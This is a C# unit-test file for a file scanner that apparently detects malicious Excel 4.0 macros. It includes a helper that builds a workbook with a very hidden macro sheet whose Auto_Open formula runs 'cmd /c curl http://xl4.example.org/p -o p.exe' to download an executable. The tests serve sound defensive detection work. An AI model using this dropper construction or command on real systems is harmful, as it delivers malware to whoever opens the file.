using System.Text;
using Crible.Model;
using Crible.Scanners.Office.Ole;

namespace Crible.Tests.Scanners.Office.Xlm;

public sealed class XlmScannerTests
{
    [Fact]
    public async Task Strelka_xl4_fixture_shows_its_hidden_macro_sheet_and_Auto_Open_without_a_malicious_verdict()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.xls"));

        var findings = report.Nodes[0].Findings.Where(f => f.Scanner == "xlm").ToList();
        Assert.Equal("Macro1 (Hidden)", Assert.Single(findings, f => f.Id == "xlm-hidden-macro-sheet").Evidence);
        Assert.Equal(Severity.Suspicious, Assert.Single(findings, f => f.Id == "xlm-auto-open").Severity);
        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Severity == Severity.Malicious);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Value == "https://www.example.com/path/to/resource");
    }

    [Fact]
    public async Task A_very_hidden_macro_sheet_that_runs_EXEC_on_opening_is_malicious_with_the_cell_as_evidence()
    {
        var report = await TestEngine.Default.AnalyseAsync(Workbook(), "salary.xls");

        Assert.Equal("xls", report.Nodes[0].Kind);
        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-auto-exec-payload");
        Assert.Contains("Auto_Open", finding.Evidence);
        Assert.Contains("Macro1!R1C1: EXEC \"cmd /c curl http://xl4.example.org/p -o p.exe\"", finding.Evidence);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-hidden-macro-sheet" && f.Evidence == "Macro1 (VeryHidden)");
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://xl4.example.org/p");
    }

    [Fact]
    public async Task A_macro_command_numbered_like_a_dangerous_function_is_not_taken_for_it()
    {
        // WAIT(1) is macro command 0x95 (fCeFunc set); function 0x95 would be REGISTER.
        var report = await TestEngine.Default.AnalyseAsync(Workbook([0x1E, 1, 0, 0x42, 0x01, 0x95, 0x80]), "wait.xls");

        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-auto-open");
        Assert.DoesNotContain(report.Nodes[0].Findings, f => f.Id is "xlm-auto-exec-payload" or "xlm-execute");
    }

    /// <summary>A BIFF8 workbook: globals (BOF, a very hidden macro sheet, a built-in Auto_Open name, EOF), then the
    /// macro sheet with one formula, by default =EXEC("...").</summary>
    internal static byte[] Workbook(byte[]? tokens = null)
    {
        const string Command = "cmd /c curl http://xl4.example.org/p -o p.exe";
        var rgce = tokens ?? [0x17, (byte)Command.Length, 0x00, .. Encoding.ASCII.GetBytes(Command), 0x42, 0x01, 110, 0x00];
        byte[] formula = [0, 0, 0, 0, 0x0F, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, (byte)rgce.Length, 0, .. rgce];
        byte[] label = [0x20, 0, 0, 1, 0x07, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0x00, 0x01, 0x3A, 0, 0, 0, 0, 0, 0];
        byte[] bof = [0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        var globalsLength = Record(0x0809, bof).Length + Record(0x0085, BoundSheet(0)).Length + Record(0x0018, label).Length + Record(0x000A, []).Length;
        byte[] stream =
        [
            .. Record(0x0809, bof), .. Record(0x0085, BoundSheet(globalsLength)), .. Record(0x0018, label), .. Record(0x000A, []),
            .. Record(0x0809, bof), .. Record(0x0006, formula), .. Record(0x000A, []),
        ];
        var builder = new CompoundFileBuilder();
        builder.AddStream("Workbook", stream);
        return builder.ToArray();
    }

    private static byte[] BoundSheet(int position) => [.. BitConverter.GetBytes(position), 0x02, 0x01, 6, 0, .. Encoding.ASCII.GetBytes("Macro1")];

    private static byte[] Record(ushort type, byte[] body) => [.. BitConverter.GetBytes(type), .. BitConverter.GetBytes((ushort)body.Length), .. body];
}
